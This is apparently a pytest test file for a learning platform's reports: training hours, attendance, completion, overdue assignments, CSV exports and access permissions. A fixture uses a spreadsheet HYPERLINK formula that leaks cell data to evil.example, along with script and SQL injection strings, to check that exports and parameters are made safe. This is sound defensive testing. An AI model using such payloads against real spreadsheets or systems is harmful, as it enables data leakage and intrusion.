"""Reports: hours against the target, attendance, completion, overdue assignments, CSV."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta

import pytest

from lms.extensions import db
from lms.models import (
    Attendance,
    Camp,
    Course,
    Enrollment,
    LiveSeries,
    LiveSession,
    Organization,
    Registration,
    User,
)
from lms.services import hours, people, plans, reports
from lms.services.loading import load
from tests.test_plans import add_group, assign, login, org_id
from tests.test_query_counts import count_queries

MARCH = date(2027, 3, 1)
PERIOD = "from=2027-03-01&to=2027-03-31"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


# The reports' clock: after the spring of 2027 the tests' sessions are over (a session
# that has not started yet is not counted).
NOW = datetime(2027, 6, 1, tzinfo=UTC)


@pytest.fixture(autouse=True)
def report_clock(monkeypatch):
    monkeypatch.setattr("lms.services.reports.utcnow", lambda: NOW)


@dataclass
class World:
    org_a: int
    org_b: int
    manager_a: User
    manager_b: User
    ann: User
    al: User
    evil: User
    bob: User
    group_a: int


@pytest.fixture
def world(app, make_user) -> World:
    manager_a = make_user("boss@acme.example", organization="Acme", is_manager=True)
    ann = make_user("ann@acme.example", organization="Acme")
    al = make_user("al@acme.example", organization="Acme")
    evil = make_user("evil@acme.example", organization="Acme")
    manager_b = make_user("boss@beta.example", organization="Beta", is_manager=True)
    bob = make_user("bob@beta.example", organization="Beta")
    org_a, org_b = org_id(app, "Acme"), org_id(app, "Beta")
    with app.app_context():
        db.session.get(User, evil.id).name = EVIL
        db.session.get(Organization, org_a).monthly_target_hours = 10
        db.session.commit()
    group_a = add_group(app, org_a, "Key talent", [ann.id, al.id])
    return World(org_a, org_b, manager_a, manager_b, ann, al, evil, bob, group_a)


def ledger(app, user_id: int, day: date, hours_: float, key: str, camp_id=None) -> None:
    with app.app_context():
        hours.add(key=key, user_id=user_id, source="video", seconds=int(hours_ * 3600), day=day,
                  camp_id=camp_id)  # fmt: skip
        db.session.commit()


def camp_id(app, slug: str) -> int:
    with app.app_context():
        return db.session.scalar(db.select(Camp.id).filter_by(slug=slug))


@pytest.fixture
def month_hours(app, world):
    """March 2027: Ann 11 h (Acme's target is 10), Al 5 h after a correction, the evil name
    1 h, Bob (Beta, the academy's 12 h) 13 h; time outside March does not count."""
    growth = camp_id(app, "startup-growth")
    ledger(app, world.ann.id, date(2027, 3, 1), 8, "a1", growth)
    ledger(app, world.ann.id, date(2027, 3, 31), 3, "a2")
    ledger(app, world.ann.id, date(2027, 4, 1), 50, "a3")
    ledger(app, world.al.id, date(2027, 3, 10), 7, "l1", growth)
    ledger(app, world.al.id, date(2027, 3, 11), -2, "l2", growth)
    ledger(app, world.evil.id, date(2027, 3, 5), 1, "e1")
    ledger(app, world.bob.id, date(2027, 3, 5), 13, "b1", growth)
    ledger(app, world.bob.id, date(2027, 2, 28), 40, "b2")
    return growth


def hours_rows(app, organization_id=None, camp=None):
    with app.app_context():
        scope = people.Scope(organization_id, everyone=organization_id is None)
        found_camp = db.session.get(Camp, camp) if camp else None
        rows = reports.monthly_hours(scope, MARCH, found_camp)
        return {r.email: (r.hours, r.target, r.met) for r in rows}, reports.hours_summary(
            scope, MARCH, found_camp
        )


# -- (a) hours --------------------------------------------------------------------------


def test_hours_per_learner_against_the_target(app, world, month_hours):
    rows, summary = hours_rows(app)
    assert rows == {
        "ann@acme.example": (11.0, 10, True),
        "al@acme.example": (5.0, 10, False),
        "evil@acme.example": (1.0, 10, False),
        "boss@acme.example": (0.0, 10, False),
        "bob@beta.example": (13.0, 12, True),
        "boss@beta.example": (0.0, 12, False),
    }
    assert (summary.learners, summary.met, summary.hours) == (6, 2, 30.0)
    assert summary.buckets == {"none": 2, "under_25": 1, "under_50": 0, "under_75": 1,
                               "under_100": 0, "met": 2}  # fmt: skip


def test_hours_of_one_organization_only(app, world, month_hours):
    rows, summary = hours_rows(app, world.org_a)
    assert set(rows) == {"ann@acme.example", "al@acme.example", "evil@acme.example",
                         "boss@acme.example"}  # fmt: skip
    assert summary.learners == 4 and summary.met == 1


def test_with_a_camp_only_its_hours_count_and_its_target_applies(app, world, month_hours):
    rows, _ = hours_rows(app, camp=month_hours)
    assert rows["ann@acme.example"] == (8.0, 10, False)  # no camp target: Acme's
    assert rows["bob@beta.example"] == (13.0, 12, True)
    with app.app_context():
        db.session.get(Camp, month_hours).monthly_target_hours = 5
        db.session.commit()
    rows, summary = hours_rows(app, camp=month_hours)
    assert rows["ann@acme.example"] == (8.0, 5, True)
    assert rows["al@acme.example"] == (5.0, 5, True)
    assert rows["evil@acme.example"] == (0.0, 5, False)
    assert summary.met == 3


def test_the_hours_page_shows_the_month_and_a_chart(app, world, month_hours):
    client = login(app, world.manager_a.email)
    page = client.get("/reports/hours?month=2027-03").get_data(as_text=True)
    assert "Training hours 2027-03" in page
    assert "ann@acme.example" in page and "bob@beta.example" not in page
    assert "<svg" in page and 'class="bar met"' in page
    assert "met" in page and "not met" in page


@pytest.fixture
def unattached(app, make_user, month_hours) -> dict[str, User]:
    """People of no organization: a learner with 6 h in March (3 h in the growth camp), a
    learner with none, a trainer with 2 h; the organizer has no time."""
    people_ = {
        "free": make_user("free@example.com"),
        "idle": make_user("idle@example.com"),
        "trainer": make_user("trainer@example.com", role="trainer"),
        "organizer": make_user("organizer@example.com", role="organizer"),
    }
    ledger(app, people_["free"].id, date(2027, 3, 2), 3, "f1", month_hours)
    ledger(app, people_["free"].id, date(2027, 3, 3), 3, "f2")
    ledger(app, people_["trainer"].id, date(2027, 3, 4), 2, "t1")
    return people_


def test_organizers_see_learners_of_no_organization(app, world, unattached):
    default = app.config["MONTHLY_TARGET_HOURS"]
    with app.app_context():
        everyone = people.Scope(None, everyone=True)
        rows = reports.monthly_hours(everyone, MARCH)
        summary = reports.hours_summary(everyone, MARCH)
        free_target = hours.target_hours(db.session.get(User, unattached["free"].id))
    found = [(r.organization, r.email, r.hours, r.target) for r in rows]
    # named organizations first, then the people of none (by name)
    assert [r.organization for r in rows] == ["Acme"] * 4 + ["Beta"] * 2 + [""] * 3
    assert found[-3:] == [
        ("", "free@example.com", 6.0, default),
        ("", "idle@example.com", 0.0, default),
        ("", "trainer@example.com", 2.0, default),  # no organization, but time this month
    ]
    assert free_target == default  # the same target the learner's own pages use
    assert "organizer@example.com" not in {r.email for r in rows}  # no time, not a learner
    assert (summary.learners, summary.met, summary.hours) == (9, 2, 38.0)
    assert summary.buckets == {"none": 3, "under_25": 2, "under_50": 0, "under_75": 2,
                               "under_100": 0, "met": 2}  # fmt: skip


def test_a_camps_target_applies_to_learners_of_no_organization(app, world, unattached):
    growth = camp_id(app, "startup-growth")
    rows, _ = hours_rows(app, camp=growth)
    assert rows["free@example.com"] == (3.0, app.config["MONTHLY_TARGET_HOURS"], False)
    assert rows["ann@acme.example"] == (8.0, 10, False)  # Acme's own target, not the default
    with app.app_context():
        db.session.get(Camp, growth).monthly_target_hours = 3
        db.session.commit()
    rows, _ = hours_rows(app, camp=growth)
    assert rows["free@example.com"] == (3.0, 3, True)


def test_learners_of_no_organization_stay_out_of_organization_reports(app, world, unattached):
    for organization in (world.org_a, world.org_b):
        rows, _summary = hours_rows(app, organization)
        assert not {"free@example.com", "idle@example.com", "trainer@example.com"} & set(rows)
    client = login(app, world.manager_a.email)
    for url in ("/reports/hours?month=2027-03", "/reports/hours.csv?month=2027-03"):
        assert "free@example.com" not in client.get(url).get_data(as_text=True)
    client = login(app, unattached["organizer"].email)
    for url in ("/reports/hours", "/reports/hours.csv"):
        body = client.get(f"{url}?month=2027-03&organization={world.org_a}").get_data(as_text=True)
        assert "ann@acme.example" in body and "free@example.com" not in body


def test_the_hours_page_and_csv_list_learners_of_no_organization(app, world, unattached):
    client = login(app, unattached["organizer"].email)
    page = client.get("/reports/hours?month=2027-03").get_data(as_text=True)
    row = page[page.index("free@example.com") :]
    assert row.index("<td>—</td>") < row.index("</tr>")  # no organization: a dash
    rows = read_csv(client.get("/reports/hours.csv?month=2027-03"))
    assert len(rows) == 1 + 9
    assert rows[-3:] == [
        ["", "free", "free@example.com", "6.0", "12", "no"],
        ["", "idle", "idle@example.com", "0.0", "12", "no"],
        ["", "trainer", "trainer@example.com", "2.0", "12", "no"],
    ]
    assert [row[0] for row in rows[1:7]] == ["Acme"] * 4 + ["Beta"] * 2


# -- (b) attendance ---------------------------------------------------------------------


def add_sessions(app, world: World, count: int = 2, start: datetime | None = None) -> int:
    """A series with ``count`` sessions from 2 March 2027 (06:00 UTC), a week apart.

    Each: Ann registered and present, Al registered and absent, Bob registered and late,
    Evil waitlisted; a substitute from Beta present without a registration.
    """
    start = start or datetime(2027, 3, 2, 6, 0, tzinfo=UTC)
    with app.app_context():
        series = LiveSeries(title_zh="活动日", title_en="Activity day", rrule="FREQ=WEEKLY",
                            starts_local=start.replace(tzinfo=None), location="centre")  # fmt: skip
        db.session.add(series)
        db.session.flush()
        for number in range(count):
            begins = start + timedelta(days=7 * number)
            session = LiveSession(
                series_id=series.id, title_zh=f"第{number}次", title_en=f"Session {number}",
                starts_at=begins, ends_at=begins + timedelta(hours=2), location="centre",
                checkin_secret="s",
            )  # fmt: skip
            db.session.add(session)
            db.session.flush()
            registrations = [(world.ann, "registered"), (world.al, "registered"),
                             (world.bob, "registered"), (world.evil, "waitlisted")]  # fmt: skip
            for user, status in registrations:
                db.session.add(Registration(session_id=session.id, user_id=user.id, status=status))
            attendance = [(world.ann, "present"), (world.al, "absent"), (world.bob, "late"),
                          (world.manager_b, "present")]  # fmt: skip
            for user, status in attendance:
                db.session.add(Attendance(session_id=session.id, user_id=user.id, status=status))
        db.session.commit()
        return series.id


def test_attendance_per_session_and_series(app, world):
    add_sessions(app, world, count=2)
    add_sessions(app, world, count=1, start=datetime(2027, 5, 2, 6, tzinfo=UTC))  # outside
    with app.app_context():
        everyone = people.Scope(None, everyone=True)
        sessions = reports.attendance_by_session(everyone, MARCH, date(2027, 3, 31))
        series = reports.attendance_by_series(everyone, MARCH, date(2027, 3, 31))
        acme = people.Scope(world.org_a)
        acme_sessions = reports.attendance_by_session(acme, MARCH, date(2027, 3, 31))
    assert len(sessions) == 2
    first = sessions[0]
    assert (first.registered, first.present, first.late, first.absent) == (3, 2, 1, 1)
    assert first.rate == 75  # three attended (one a substitute), one absent
    assert [(s.sessions, s.registered, s.present, s.late) for s in series] == [(2, 6, 4, 2)]
    mine = acme_sessions[0]
    assert (mine.registered, mine.present, mine.late, mine.absent, mine.rate) == (2, 1, 0, 1, 50)


def test_a_managers_attendance_leaves_out_sessions_without_their_staff(app, world, make_user):
    add_sessions(app, world, count=1)
    loner = make_user("loner@gamma.example", organization="Gamma", is_manager=True)
    client = login(app, loner.email)
    page = client.get(f"/reports/attendance?{PERIOD}").get_data(as_text=True)
    assert "No sessions in this period." in page
    organizer = make_user("organizer@example.com", role="organizer")
    page = login(app, organizer.email).get(f"/reports/attendance?{PERIOD}").get_data(as_text=True)
    assert "Session 0" in page and "<svg" in page


# -- (c) completion ---------------------------------------------------------------------


def enroll(app, user_id, course_id, completed=False, status=None):
    with app.app_context():
        db.session.add(Enrollment(
            user_id=user_id, course_id=course_id,
            status=status or ("completed" if completed else "active"),
            completed_at=datetime.now(UTC) if completed else None,
        ))  # fmt: skip
        db.session.commit()


def test_completion_per_course_and_camp(app, world, course):
    enroll(app, world.ann.id, course.id, completed=True)
    enroll(app, world.al.id, course.id)
    enroll(app, world.evil.id, course.id, status="withdrawn")
    enroll(app, world.bob.id, course.id, completed=True)
    with app.app_context():
        everyone = people.Scope(None, everyone=True)
        by_course = {r.course.id: r for r in reports.completion_by_course(everyone)}
        by_camp = {r.camp.id: r for r in reports.completion_by_camp(everyone)}
        acme = {r.course.id: r for r in reports.completion_by_course(people.Scope(world.org_a))}
        future = reports.completion_by_course(everyone, start=date(2999, 1, 1))
    assert (by_course[course.id].enrolled, by_course[course.id].completed) == (3, 2)
    assert by_course[course.id].rate == 67
    assert (by_camp[course.camp_id].enrolled, by_camp[course.camp_id].completed) == (3, 2)
    assert (acme[course.id].enrolled, acme[course.id].completed, acme[course.id].rate) == (2, 1, 50)
    assert all(r.enrolled == 0 and r.rate is None for r in future)


def chart(page: str, chart_id: str) -> str:
    """The SVG of one chart of a page."""
    start = page.index(f'aria-labelledby="{chart_id}-title"')
    return page[start : page.index("</svg>", start)]


def test_the_completion_page_charts_the_rate_per_course(app, world, course):
    with app.app_context():
        other = db.session.scalar(
            db.select(Course)
            .where(Course.status == "published", Course.camp_id != course.camp_id)
            .order_by(Course.id)
        )
        other_title, other_slug = other.title_en, load(other, "camp").slug
    enroll(app, world.ann.id, course.id, completed=True)
    enroll(app, world.al.id, course.id)
    enroll(app, world.evil.id, course.id, status="withdrawn")
    enroll(app, world.al.id, other.id, completed=True)
    enroll(app, world.bob.id, other.id)  # Beta: not the manager's
    page = login(app, world.manager_a.email).get("/reports/completion").get_data(as_text=True)
    svg = chart(page, "completion-chart")
    assert "Completion rate per course" in svg
    bars = re.findall(
        r'<title>([^<]*)</title>\s*<text[^>]*>[^<]*</text>\s*<rect[^>]*class="track">'
        r'</rect>\s*<rect[^>]*width="([0-9.]+)"[^>]*class="bar ([^"]*)"></rect>\s*'
        r"<text[^>]*>([^<]*)</text>",
        svg,
    )
    # one bar per course with learners of the scope (withdrawn and Beta's left out), no other
    assert sorted(bars) == sorted([
        (f"{course.title_en}: 1 of 2 completed", "170.0", f"camp-{course.camp.slug}", "50%"),
        (f"{other_title}: 1 of 1 completed", "340.0", f"camp-{other_slug}", "100%"),
    ])  # fmt: skip
    assert svg.count("<g>") == 2


# -- the reports' front page ------------------------------------------------------------


def test_the_reports_page_charts_this_months_hours(app, world, month_hours, organizer):
    page = login(app, organizer.email).get("/reports/?month=2027-03").get_data(as_text=True)
    svg = chart(page, "index-hours-chart")
    values = re.findall(r'class="value">([0-9]+)</text>', svg)
    # the same distribution as the hours report's (test_hours_per_learner_against_the_target)
    assert values == ["2", "1", "0", "1", "0", "2"]
    assert svg.count('class="bar met"') == 1
    assert 'href="/reports/hours?month=2027-03"' in page
    mine = login(app, world.manager_b.email).get("/reports/?month=2027-03").get_data(as_text=True)
    assert re.findall(r'class="value">([0-9]+)</text>', chart(mine, "index-hours-chart")) == [
        "1", "0", "0", "0", "0", "1"
    ]  # fmt: skip


# -- (d) overdue ------------------------------------------------------------------------


def test_overdue_lists_late_learners_of_open_assignments(app, world, course):
    yesterday = plans.today() - timedelta(days=1)
    assign(app, world.org_a, yesterday, group_id=world.group_a, course_id=course.id)
    assign(app, world.org_a, plans.today(), user_id=world.evil.id, course_id=course.id)
    cancelled = assign(app, world.org_a, yesterday, user_id=world.evil.id, camp_id=course.camp_id)
    assign(app, world.org_b, yesterday - timedelta(days=9), user_id=world.bob.id,
           course_id=course.id)  # fmt: skip
    enroll(app, world.ann.id, course.id, completed=True)
    with app.app_context():
        from lms.models import Assignment

        db.session.get(Assignment, cancelled).cancelled_at = datetime.now(UTC)
        db.session.commit()
        everyone = people.Scope(None, everyone=True)
        rows = [(r.user.email, r.days) for r in reports.overdue(everyone)]
        acme = [r.user.email for r in reports.overdue(people.Scope(world.org_a))]
        count = reports.overdue_count(everyone)
        in_period = reports.overdue(everyone, start=yesterday, end=yesterday)
    assert rows == [("bob@beta.example", 10), ("al@acme.example", 1)]
    assert acme == ["al@acme.example"] and count == 2
    assert [r.user.email for r in in_period] == ["al@acme.example"]


# -- CSV --------------------------------------------------------------------------------


def read_csv(response) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_hours_csv_is_an_excel_friendly_attachment(app, world, month_hours):
    with app.app_context():
        db.session.get(User, world.ann.id).name = '张三, "Ann"'
        db.session.commit()
    client = login(app, world.manager_a.email)
    response = client.get("/reports/hours.csv?month=2027-03")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="hours-2027-03-org{world.org_a}.csv"'
    )
    rows = read_csv(response)
    assert rows[0] == ["Organization", "Name", "E-mail", "Hours", "Target (h)", "Met"]
    by_email = {row[2]: row for row in rows[1:]}
    assert by_email["ann@acme.example"] == ["Acme", '张三, "Ann"', "ann@acme.example", "11.0",
                                            "10", "yes"]  # fmt: skip
    assert '"张三, ""Ann"""' in response.get_data(as_text=True)  # quoted, quotes doubled
    assert "bob@beta.example" not in response.get_data(as_text=True)


def test_formula_names_are_neutralized_in_every_export(app, world, month_hours, course):
    add_sessions(app, world, count=1)
    assign(app, world.org_a, plans.today() - timedelta(days=2), user_id=world.evil.id,
           course_id=course.id, note="=1+1")  # fmt: skip
    enroll(app, world.evil.id, course.id)
    with app.app_context():
        db.session.get(Organization, world.org_a).name = "@Acme"
        db.session.execute(db.update(LiveSession).values(title_en="-2+3"))
        db.session.commit()
    client = login(app, world.manager_a.email)
    exports = [
        "/reports/hours.csv?month=2027-03",
        f"/reports/attendance.csv?{PERIOD}",
        f"/reports/attendance-series.csv?{PERIOD}",
        "/reports/completion.csv",
        "/reports/completion-camps.csv",
        "/reports/overdue.csv",
    ]
    seen = set()
    for url in exports:
        response = client.get(url)
        assert response.status_code == 200, url
        for row in read_csv(response):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (url, cell)
                seen.add(cell)
    assert "'" + EVIL in seen and "'@Acme" in seen and "'-2+3" in seen


@pytest.mark.parametrize(
    ("url", "filename"),
    [
        ("/reports/attendance.csv?from=2027-03-01&to=2027-03-31",
         "attendance-2027-03-01_2027-03-31-org{org}.csv"),
        ("/reports/overdue.csv?camp={camp}", "overdue-{today}-org{org}-camp{camp}.csv"),
        ("/reports/completion-camps.csv", "completion-camps-org{org}.csv"),
    ],
)  # fmt: skip
def test_csv_file_names_are_made_of_checked_values(app, world, url, filename):
    growth = camp_id(app, "startup-growth")
    values = {"org": world.org_a, "camp": growth, "today": plans.today().isoformat()}
    response = login(app, world.manager_a.email).get(url.format(**values))
    expected = filename.format(**values)
    assert response.headers["Content-Disposition"] == f'attachment; filename="{expected}"'


# -- who sees what ----------------------------------------------------------------------

PAGES = ["/reports/", "/reports/hours", "/reports/hours-grid", "/reports/attendance",
         "/reports/completion", "/reports/overdue"]  # fmt: skip
EXPORTS = ["/reports/hours.csv", "/reports/hours-grid.csv", "/reports/attendance.csv",
           "/reports/attendance-series.csv", "/reports/completion.csv",
           "/reports/completion-camps.csv", "/reports/overdue.csv"]  # fmt: skip


def test_every_report_route_is_tested(app):
    routes = {r.rule for r in app.url_map.iter_rules() if r.endpoint.startswith("reports.")}
    assert routes == set(PAGES + EXPORTS)


@pytest.mark.parametrize("url", PAGES + EXPORTS)
@pytest.mark.parametrize(
    ("viewer", "status"),
    [(None, 302), ("learner", 404), ("trainer", 404), ("staff", 404), ("manager", 200),
     ("organizer", 200)],
)  # fmt: skip
def test_permission_matrix(app, world, make_user, url, viewer, status):
    make_user("learner@example.com")
    make_user("trainer@example.com", role="trainer")
    make_user("organizer@example.com", role="organizer")
    emails = {"learner": "learner@example.com", "trainer": "trainer@example.com",
              "organizer": "organizer@example.com", "manager": world.manager_a.email,
              "staff": world.ann.email}  # fmt: skip
    response = login(app, emails.get(viewer)).get(url)
    assert response.status_code == status
    if status == 302:
        assert "/login" in response.headers["Location"]


@pytest.mark.parametrize("url", PAGES + EXPORTS)
def test_another_organizations_reports_are_404_for_managers(app, world, month_hours, url):
    add_sessions(app, world, count=1)
    client = login(app, world.manager_a.email)
    for tampered in (world.org_b, 999999):
        assert client.get(f"{url}?organization={tampered}&{PERIOD}").status_code == 404
    own = client.get(f"{url}?organization={world.org_a}&{PERIOD}&month=2027-03")
    assert own.status_code == 200
    default = client.get(f"{url}?{PERIOD}&month=2027-03")
    for response in (own, default):
        body = response.get_data(as_text=True)
        assert "bob@beta.example" not in body and "boss@beta.example" not in body


@pytest.mark.parametrize("url", PAGES + EXPORTS)
def test_organizers_choose_any_organization(app, world, organizer, month_hours, url):
    client = login(app, organizer.email)
    assert client.get(f"{url}?organization={world.org_b}").status_code == 200
    assert client.get(f"{url}?organization=999999").status_code == 404
    if url.startswith("/reports/hours"):
        body = client.get(f"{url}?organization={world.org_b}&month=2027-03").get_data(as_text=True)
        assert "bob@beta.example" in body and "ann@acme.example" not in body


def test_managers_counts_include_only_their_staff(app, world, course):
    add_sessions(app, world, count=1)
    enroll(app, world.ann.id, course.id, completed=True)
    enroll(app, world.bob.id, course.id, completed=True)
    client = login(app, world.manager_a.email)
    rows = read_csv(client.get(f"/reports/attendance.csv?{PERIOD}"))
    assert rows[1][3:] == ["2", "1", "0", "0", "1", "50"]
    rows = read_csv(client.get("/reports/completion.csv"))
    assert [course.title_en, "1", "1", "100"] in [row[1:] for row in rows]


def test_the_navigation_shows_reports_to_organizers_and_managers(app, world, organizer):
    for email, shown in ((world.manager_a.email, True), (organizer.email, True),
                         (world.ann.email, False)):  # fmt: skip
        page = login(app, email).get("/dashboard").get_data(as_text=True)
        assert ('href="/reports/"' in page) is shown


# -- parameters -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("month=2027-13", "The month must be written YYYY-MM."),
        ("month=2027-3", "The month must be written YYYY-MM."),
        ("month=abc", "The month must be written YYYY-MM."),
        ("month=1999-12", "The month must be written YYYY-MM."),
        ("from=2027-02-30", "from must be a date written YYYY-MM-DD."),
        ("to=2027/03/01", "to must be a date written YYYY-MM-DD."),
        ("to=0001-01-05", "to must be a date written YYYY-MM-DD."),
        ("from=9999-12-31&to=9999-12-31", "from must be a date written YYYY-MM-DD."),
        ("from=2027-03-02&to=2027-03-01", "The period ends before it starts."),
        ("from=2020-01-01&to=2027-01-01", "The period is longer than two years."),
        ("organization=abc", "organization must be a number."),
        ("organization=-1", "organization must be a number."),
        ("organization=99999999999", "organization must be a number."),
        ("camp=1.5", "camp must be a number."),
        ("camp=999999", "There is no camp with this number."),
        ("page=0", "page must be a number from 1 to 100000."),
        ("page=x", "page must be a number."),
    ],
)
def test_bad_parameters_are_400_with_a_message(app, organizer, query, message):
    client = login(app, organizer.email)
    for url in PAGES + EXPORTS:
        response = client.get(f"{url}?{query}")
        assert response.status_code == 400, url
        assert message in response.get_data(as_text=True), url


@pytest.mark.parametrize(
    "value",
    ["", " ", "\x00", "%00", "１２", "9" * 400, "2027-03-01T00:00", "NaN", "0x10", "2027-00",
     "0000-01-01", "0001-01-01", "9999-12-31", "2100-12-31", "2027-03-01%0d%0a", "<script>",
     "1;DROP TABLE users"],
)  # fmt: skip
def test_odd_parameters_are_never_a_500(app, organizer, world, value):
    client = login(app, organizer.email)
    for url in PAGES + EXPORTS:
        for name in ("organization", "camp", "month", "from", "to", "page"):
            response = client.get(url, query_string={name: value})
            assert response.status_code in (200, 400), (url, name, value)


# -- queries ----------------------------------------------------------------------------


def grow(app, world: World, course, start: int, count: int) -> None:
    """More of everything: staff with hours, registrations, attendance, enrollments, late
    assignments — in both organizations."""
    with app.app_context():
        session_ids = db.session.scalars(db.select(LiveSession.id)).all()
        for number in range(start, start + count):
            organization = world.org_a if number % 2 else world.org_b
            user = User(email=f"s{number}@example.com", name=f"S{number}", password_hash="x",
                        organization_id=organization)  # fmt: skip
            db.session.add(user)
            db.session.flush()
            hours.add(key=f"g{number}", user_id=user.id, source="video", seconds=3600 * number,
                      day=date(2027, 3, 1 + number % 28))  # fmt: skip
            for session_id in session_ids:
                db.session.add(Registration(session_id=session_id, user_id=user.id,
                                            status="registered"))  # fmt: skip
                db.session.add(Attendance(session_id=session_id, user_id=user.id,
                                          status="present"))  # fmt: skip
            db.session.add(Enrollment(user_id=user.id, course_id=course.id))
            from lms.models import Assignment

            db.session.add(Assignment(organization_id=organization, user_id=user.id,
                                      course_id=course.id,
                                      due_on=plans.today() - timedelta(days=3)))  # fmt: skip
        db.session.commit()


def queries(app, client, url: str) -> int:
    with count_queries(app) as statements:
        response = client.get(url)
    assert response.status_code == 200, url
    return len(statements)


@pytest.mark.parametrize("viewer", ["manager", "organizer"])
def test_reports_run_a_fixed_number_of_queries(app, world, organizer, course, viewer):
    add_sessions(app, world, count=2)
    client = login(app, world.manager_a.email if viewer == "manager" else organizer.email)
    urls = [f"{url}?{PERIOD}&month=2027-03" for url in PAGES + EXPORTS]
    grow(app, world, course, 0, 3)
    before = [queries(app, client, url) for url in urls]
    grow(app, world, course, 3, 30)
    add_sessions(app, world, count=3, start=datetime(2027, 3, 4, 6, tzinfo=UTC))
    assert [queries(app, client, url) for url in urls] == before


# -- issue 17: future sessions are not counted -----------------------------------------


def test_future_sessions_are_not_counted(app, world, organizer, monkeypatch):
    """On 5 March 2027 the session of the 2nd is over and the one of the 9th is to come: the
    report, its chart and its CSVs count only the first (not the second as 0 %)."""
    add_sessions(app, world, count=2)
    with app.app_context():  # the future session has seats taken, and nobody attended yet
        future = db.session.scalar(db.select(LiveSession).filter_by(title_en="Session 1"))
        db.session.execute(db.delete(Attendance).filter_by(session_id=future.id))
        db.session.commit()
    monkeypatch.setattr("lms.services.reports.utcnow", lambda: datetime(2027, 3, 5, tzinfo=UTC))
    with app.app_context():
        everyone = people.Scope(None, everyone=True)
        sessions = reports.attendance_by_session(everyone, MARCH, date(2027, 3, 31))
        series = reports.attendance_by_series(everyone, MARCH, date(2027, 3, 31))
    assert [row.session.title_en for row in sessions] == ["Session 0"]
    assert [(s.sessions, s.registered, s.present, s.late) for s in series] == [(1, 3, 2, 1)]
    client = login(app, organizer.email)
    page = client.get(f"/reports/attendance?{PERIOD}").get_data(as_text=True)
    assert "Session 0" in page and "Session 1" not in page and " 0%" not in page
    assert "Sessions that have not started yet are not counted." in page
    rows = read_csv(client.get(f"/reports/attendance.csv?{PERIOD}"))
    assert [row[1] for row in rows[1:]] == ["Session 0"]


def test_the_chart_leaves_out_what_the_table_shows_as_a_dash(app, world, organizer):
    """A session without registered learners (walk-ins only) has no rate: "—" in the table,
    and no 0 % bar in the chart."""
    from lms.services.charts import session_bars

    add_sessions(app, world, count=2)
    with app.app_context():
        empty = db.session.scalar(db.select(LiveSession).filter_by(title_en="Session 1"))
        db.session.execute(db.delete(Registration).filter_by(session_id=empty.id))
        db.session.execute(db.delete(Attendance).filter_by(session_id=empty.id))
        db.session.commit()
        everyone = people.Scope(None, everyone=True)
        sessions = reports.attendance_by_session(everyone, MARCH, date(2027, 3, 31))
        assert [row.rate for row in sessions] == [75, None]
        with app.test_request_context():
            bars = session_bars(sessions)
    assert len(bars) == 1 and bars[0].value == 75
    page = login(app, organizer.email).get(f"/reports/attendance?{PERIOD}").get_data(as_text=True)
    assert "Session 1" in page and "—" in page
